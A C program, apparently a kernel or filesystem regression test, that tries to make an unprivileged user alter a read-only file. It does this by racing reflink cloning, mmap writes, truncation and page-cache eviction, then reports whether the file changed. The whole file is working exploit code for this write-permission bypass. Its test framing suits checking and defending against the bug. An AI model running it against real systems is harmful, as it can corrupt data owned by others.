// SPDX-License-Identifier: Apache-2.0 OR BSD-3-Clause
/*
 * beyond - an unprivileged user changes a clone of what others read, and cuts it
 *
 * He may read the file, so he may clone a page of it: then a page of his own file is
 * on the same block. He reads it, changes it by a mapping, and cuts his file before it
 * while another thread has it written and evicted: what is beyond the end of a file a
 * filesystem does not write, and takes for clean. A cache that still holds that the
 * page is what its block has serves it to whoever reads the file.
 *
 * The last line it prints is "beyond: rounds=N wrong=N". Exit status: 0 if the file
 * stayed what it was, 1 if not, 2 if it could not run.
 */
#include <fcntl.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include "program.h"

#define PAGE	4096
#define NOBODY	65534
#define TRIES	4

static int mine;
static atomic_int stop;

static void *write_and_evict(void *unused)
{
	(void)unused;
	while (!atomic_load(&stop)) {
		sync_file_range(mine, PAGE, PAGE, SYNC_FILE_RANGE_WRITE);
		posix_fadvise(mine, PAGE, PAGE, POSIX_FADV_DONTNEED);
	}
	return NULL;
}

/* His second page is one of the file again, and he changes and cuts it. */
static void try_once(int victim, off_t offset, uint8_t *mapped, const uint8_t *before)
{
	struct file_clone_range range = {
		.src_fd = victim,
		.src_offset = offset,
		.src_length = PAGE,
		.dest_offset = PAGE,
	};
	uint8_t page[PAGE];
	pthread_t other;

	must(!ioctl(mine, FICLONERANGE, &range), "clone");
	must(pread(mine, page, PAGE, PAGE) == PAGE, "read the clone");
	must(!memcmp(page, before, PAGE), "find in the clone what the file has");
	memset(mapped + PAGE, 'B', PAGE);
	atomic_store(&stop, 0);
	must(!pthread_create(&other, NULL, write_and_evict, NULL), "start a thread");
	must(!ftruncate(mine, PAGE), "truncate");
	atomic_store(&stop, 1);
	pthread_join(other, NULL);
}

int main(int argc, char **argv)
{
	int rounds = 0, wrong = 0;
	uint8_t *mapped, *before;
	struct stat stat;
	uint8_t after[PAGE];
	int victim, direct;
	off_t offset;
	double end;

	if (argc != 4) {
		fprintf(stderr, "usage: beyond FILE OWN-FILE SECONDS\n");
		return 2;
	}
	must(!setresgid(NOBODY, NOBODY, NOBODY) && !setresuid(NOBODY, NOBODY, NOBODY),
	     "become nobody");
	end = now() + number_of("seconds", argv[3], 0);
	victim = open(argv[1], O_RDONLY);
	direct = open(argv[1], O_RDONLY | O_DIRECT);
	must(victim >= 0 && direct >= 0 && !fstat(victim, &stat), argv[1]);
	must(open(argv[1], O_WRONLY) < 0, "be somebody who must not write the file");
	mine = open(argv[2], O_RDWR | O_CREAT | O_TRUNC, 0600);
	must(mine >= 0 && !ftruncate(mine, PAGE), argv[2]);
	mapped = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, mine, 0);
	must(mapped != MAP_FAILED, "map");
	before = aligned_alloc(PAGE, PAGE);

	/* Nothing is read ahead, which the cache would have too early. */
	posix_fadvise(victim, 0, 0, POSIX_FADV_RANDOM);
	posix_fadvise(mine, 0, 0, POSIX_FADV_RANDOM);
	for (offset = 0; offset + PAGE <= stat.st_size && now() < end; offset += PAGE) {
		must(pread(direct, before, PAGE, offset) == PAGE, "read directly");
		for (int i = 0; i < TRIES; i++)
			try_once(victim, offset, mapped, before);
		rounds++;
		posix_fadvise(victim, 0, 0, POSIX_FADV_DONTNEED);
		if (pread(victim, after, PAGE, offset) == PAGE &&
		    !memcmp(before, after, PAGE))
			continue;
		if (!wrong++)
			fprintf(stderr, "beyond: the file is changed at %ld: %.16s\n",
				(long)offset, (char *)after);
	}
	printf("beyond: rounds=%d wrong=%d\n", rounds, wrong);
	return wrong != 0;
}
